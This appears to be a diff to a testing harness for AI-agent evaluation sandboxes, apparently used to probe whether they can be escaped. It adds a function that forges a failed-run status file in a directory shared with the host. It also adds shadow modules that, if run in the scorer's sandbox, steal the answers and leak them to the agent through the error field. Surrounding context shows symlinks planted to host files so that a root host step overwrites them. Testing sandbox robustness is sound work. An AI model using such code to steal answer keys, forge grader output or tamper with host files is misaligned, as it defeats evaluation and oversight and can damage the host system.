@@ -118,6 +118,19 @@ def _forge_out():
     return forged
 
 
+def _forge_status(text):
+    """A failed run's status whose error (shown to the agent as the error's class) is `text`."""
+    esc = "".join(c if c.isalnum() or c in " ,.:-_=/" else "\\u%04x" % ord(c) for c in text)
+    status = '{{"exit": 1, "error": "%s"}}' % esc
+    for d in ["/gymforge-out"]:
+        for name in ("status.json", "status.0.json"):
+            try:
+                with open(_os.path.join(d, name), "w") as f:
+                    f.write(status)
+            except OSError:
+                pass
+
+
 def _plant_links():
     """Symlinks to host files (the canaries) under names the host writes to in directories shared with it (the
     evaluation channel): a host step that follows them as root truncates or creates host files."""
@@ -429,6 +442,19 @@ def shadow_modules(entry: Entry, host_secrets: str) -> dict[str, str]:
         _forge_out()
         _write_everywhere(_LINE.encode())
         _os._exit(0)
+        ''')
+    return {(f"{name}/__init__.py" if name in PACKAGES else f"{name}.py"): body for name in SHADOWED}
+
+
+def status_shadow(entry: Entry, host_secrets: str) -> dict[str, str]:
+    """Shadow modules that, if they run in the scorer's sandbox, put the answers into the status the host reads
+    (its `error` field is shown to the agent) and exit."""
+    body = payload(entry, "steal", host_secrets) + textwrap.dedent('''
+
+        _text = _steal()
+        if _text:
+            _forge_status("AnswersLeaked " + _text[:1500])
+            _os._exit(1)
         ''')
     return {(f"{name}/__init__.py" if name in PACKAGES else f"{name}.py"): body for name in SHADOWED}
 
